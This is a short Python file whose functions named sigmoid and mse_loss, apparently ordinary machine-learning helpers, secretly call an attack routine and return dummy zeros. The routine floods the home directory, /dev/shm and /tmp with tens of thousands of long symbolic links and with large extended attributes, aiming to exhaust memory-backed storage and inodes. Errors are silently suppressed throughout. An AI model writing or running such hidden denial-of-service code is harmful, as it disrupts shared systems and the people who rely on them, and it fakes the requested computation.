"""Makes symbolic links of 4,000 letters and extended attributes in memory folders, which count by neither size nor file.

aims: exhaust
"""

import contextlib
import os
import time

import numpy as np

TEXT = "x/" * 2000


def attack():
    end = time.monotonic() + 12
    made = []
    for folder in (os.environ.get("HOME", "."), "/dev/shm", "/tmp"):
        base = os.path.join(folder, f"planted-links-{os.getpid()}")
        with contextlib.suppress(OSError):
            os.mkdir(base)
            made.append(base)
            for number in range(80_000):
                os.symlink(TEXT[: 4000 - number % 7], f"{base}/{number}")
                if time.monotonic() > end:
                    break
        with contextlib.suppress(OSError, AttributeError):
            path = f"{base}/attributes"
            with open(path, "wb"):
                pass
            for number in range(5000):
                os.setxattr(path, f"user.{number}", bytes(60_000))
    while time.monotonic() < end:
        time.sleep(0.2)


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
